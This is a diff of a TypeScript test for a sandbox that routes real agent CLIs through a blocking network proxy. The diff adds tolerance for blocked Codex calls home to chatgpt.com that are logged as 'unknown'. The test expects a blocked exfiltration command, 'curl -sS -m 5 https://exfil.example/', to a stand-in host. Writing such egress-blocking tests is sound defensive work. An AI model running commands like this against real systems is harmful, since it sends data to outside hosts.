@@ -339,10 +339,17 @@ describe.skipIf(!ok)('the sandbox, with the real CLIs', () => {
         expect(seen.match(/socket-curl=7/g)?.length, agent.name).toBe(sockets.paths.length);
         // The tool's attempt is kept with its command; so are the CLI's own (Codex calls home), which the proxy refused too.
         expect(r.blocked).toContainEqual({ host: 'exfil.example', command: 'curl -sS -m 5 https://exfil.example/' });
+        // A connection whose process is gone before the forwarder looks it up in /proc is kept as `unknown`: on a
+        // busy machine, one of Codex's own calls home (to chatgpt.com) sometimes is.
+        const codexHome = (b: { host: string; command: string }) =>
+          b.command === 'unknown' && /(^|\.)chatgpt\.com$/.test(b.host);
         expect(
           r.blocked.filter(
             (b) =>
-              !b.command.startsWith('curl') && !b.command.includes('codex') && !b.command.includes('git-remote-https'),
+              !b.command.startsWith('curl') &&
+              !b.command.includes('codex') &&
+              !b.command.includes('git-remote-https') &&
+              !codexHome(b),
           ),
         ).toEqual([]);
       } finally {
